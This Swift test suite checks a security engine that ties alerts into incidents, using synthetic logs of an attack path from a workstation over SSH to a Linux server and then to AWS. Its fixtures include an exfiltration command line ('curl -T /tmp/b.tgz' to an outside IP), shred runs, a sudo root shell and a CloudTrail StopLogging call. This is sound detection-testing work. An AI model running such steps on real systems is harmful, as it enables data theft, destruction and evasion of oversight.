import Sigma
import Testing

@testable import Engine

/// From a workstation over SSH to a Linux server, and from there to the cloud: what ties them, and
/// what must not.
@Suite struct `Storyline over SSH and cloud` {
    private static let tool = #"C:\Users\alice\tool.exe"#
    private static let svchost = #"C:\Windows\System32\svchost.exe"#

    private func accepted(
        _ scene: inout Scene, _ second: Double, from address: String, pid: Int,
        user: String = "deploy"
    ) {
        scene.event(
            second, .linux, .logon,
            [
                ("host", "build01"), ("program", "sshd"), ("procid", "\(pid)"),
                ("message", "Accepted password for \(user) from \(address) port 50940 ssh2"),
                ("TargetUserName", user), ("IpAddress", address),
            ])
        scene.event(
            second + 0.1, .linux, .logon,
            [
                ("host", "build01"), ("program", "sshd"), ("procid", "\(pid)"),
                (
                    "message",
                    "pam_unix(sshd:session): session opened for user \(user)(uid=1001) by (uid=0)"
                ), ("TargetUserName", user),
            ])
    }

    private func executed(
        _ scene: inout Scene, _ second: Double, pid: Int, parent: Int, _ exe: String,
        session: Int = 412, alert: String? = nil
    ) {
        scene.event(
            second, .auditd, .processStart,
            [
                ("node", "build01"), ("pid", "\(pid)"), ("ppid", "\(parent)"), ("auid", "1001"),
                ("ses", "\(session)"), ("exe", exe), ("CommandLine", exe),
            ], alert: alert)
    }

    private func connected(
        _ scene: inout Scene, _ second: Double, _ host: String, from source: String,
        to address: String, port: Int
    ) {
        scene.event(
            second, .windows, .networkConnect,
            [
                ("EventID", "3"), ("Computer", host), ("ProcessGuid", Scene.guid(1)),
                ("ProcessId", "4001"), ("Image", Self.tool), ("Initiated", "true"),
                ("SourceIp", source), ("DestinationIp", address), ("DestinationPort", "\(port)"),
            ])
    }

    /// An attacker on WS01 (10.0.0.5); nothing yet on build01 (10.0.0.30).
    private func workstation() -> Scene {
        var scene = Scene()
        scene.start(0, "WS01", 1, Self.tool, parent: 900, Self.svchost, alert: "Tool")
        connected(&scene, 60, "WS01", from: "10.0.0.5", to: "203.0.113.66", port: 443)
        connected(&scene, 598, "WS01", from: "10.0.0.5", to: "10.0.0.30", port: 22)
        return scene
    }

    @Test func `the shell of an SSH logon goes back to the process that connected`() {
        var scene = workstation()
        accepted(&scene, 600, from: "10.0.0.5", pid: 2990)
        // The server process of the session is a child of the one that accepted; nobody logs it.
        executed(&scene, 600.4, pid: 3001, parent: 2995, "/usr/bin/bash")
        executed(&scene, 630, pid: 3002, parent: 3001, "/usr/bin/shred", alert: "Shred")
        let outcome = scene.run()
        #expect(outcome.incidents.count == 1, "\(outcome.printed)")
        #expect(outcome.edges.contains("session of deploy > ran as > bash"))
        #expect(outcome.edges.contains("10.0.0.5 > logged on from > session of deploy"))
    }

    @Test func `a shell that two logons could have opened is nobody's`() {
        var scene = workstation()
        accepted(&scene, 600, from: "10.0.0.5", pid: 2990)
        accepted(&scene, 601, from: "10.0.0.7", pid: 2992)
        executed(&scene, 602, pid: 3001, parent: 2995, "/usr/bin/bash")
        executed(&scene, 630, pid: 3002, parent: 3001, "/usr/bin/shred", alert: "Shred")
        #expect(scene.run().incidents.count == 2)
    }

    @Test func `a shell opened long after a logon is not that logon's`() {
        var scene = workstation()
        accepted(&scene, 600, from: "10.0.0.5", pid: 2990)
        executed(&scene, 660, pid: 3001, parent: 2995, "/usr/bin/bash")
        executed(&scene, 690, pid: 3002, parent: 3001, "/usr/bin/shred", alert: "Shred")
        #expect(scene.run().incidents.count == 2)
    }

    @Test func `an account's number and its name are one account`() {
        var scene = Scene()
        accepted(&scene, 0, from: "10.0.0.7", pid: 2990)
        executed(&scene, 1000, pid: 3002, parent: 1, "/usr/bin/shred", alert: "Shred")
        scene.event(
            1100, .linux, .privilegeUse,
            [
                ("host", "build01"), ("program", "sudo"), ("message", "deploy : COMMAND=bash"),
                ("SubjectUserName", "deploy"), ("TargetUserName", "root"),
                ("CommandLine", "/usr/bin/bash"),
            ], alert: "Root shell")
        let outcome = scene.run()
        #expect(outcome.incidents.count == 1)
        let users = outcome.incidents.flatMap(\.entities).filter { $0.kind == .user }
        #expect(users.map(\.label) == ["deploy"])
        #expect(
            outcome.printed.contains(
                "deploy ran “/usr/bin/bash” with another account's rights: Root shell"))
    }

    @Test func `a number with two names stays a number`() {
        var scene = Scene()
        accepted(&scene, 0, from: "10.0.0.7", pid: 2990)
        accepted(&scene, 50, from: "10.0.0.8", pid: 2991, user: "backup2")
        executed(&scene, 1000, pid: 3002, parent: 1, "/usr/bin/shred", alert: "Shred")
        let users = scene.run().incidents.flatMap(\.entities).filter { $0.kind == .user }
        #expect(users.map(\.label) == ["1001"])
    }

    @Test func `a cloud key used from where an alerted program had connected to is one attack`() {
        var scene = workstation()
        scene.cloud(
            7200, arn: "arn:aws:iam::1:user/deploy", from: "203.0.113.66", call: "StopLogging",
            alert: "Trail")
        let outcome = scene.run()
        #expect(outcome.incidents.count == 1)
        #expect(outcome.edges.contains("tool.exe > connected > 203.0.113.66"))
    }

    @Test func `an address that many hosts go to ties no cloud key to any of them`() {
        var scene = workstation()
        for number in 2...4 {
            connected(
                &scene, 70, "WS0\(number)", from: "10.0.1.\(number)", to: "203.0.113.66", port: 443)
        }
        scene.cloud(
            7200, arn: "arn:aws:iam::1:user/deploy", from: "203.0.113.66", call: "StopLogging",
            alert: "Trail")
        #expect(scene.run().incidents.count == 2)
    }

    @Test func `a key used before anybody connected there is another matter`() {
        var scene = workstation()
        scene.cloud(
            -900, arn: "arn:aws:iam::1:user/deploy", from: "203.0.113.66", call: "StopLogging",
            alert: "Trail")
        #expect(scene.run().incidents.count == 2)
    }

    @Test(arguments: [("north.example", "south.example", 2), ("north.example", "north.example", 1)])
    func `two organisations behind one office address stay apart`(
        first: String, second: String, incidents: Int
    ) {
        var scene = Scene()
        for (number, realm) in [first, second].enumerated() {
            scene.event(
                Double(number * 60), .okta, .cloudSignIn,
                [
                    ("actor.alternateId", "user\(number)@\(realm)"),
                    ("client.ipAddress", "198.51.100.10"), ("eventType", "user.session.start"),
                ], alert: "Odd sign-in \(number)")
        }
        #expect(scene.run().incidents.count == incidents)
    }

    @Test func `an address in a command line is where it went`() {
        var scene = Scene()
        executed(
            &scene, 0, pid: 3002, parent: 1, "curl -T /tmp/b.tgz https://203.0.113.66/u/",
            alert: "Upload")
        scene.cloud(
            900, arn: "arn:aws:iam::1:user/deploy", from: "203.0.113.66", call: "StopLogging",
            alert: "Trail")
        #expect(scene.run().incidents.count == 1)
    }
}
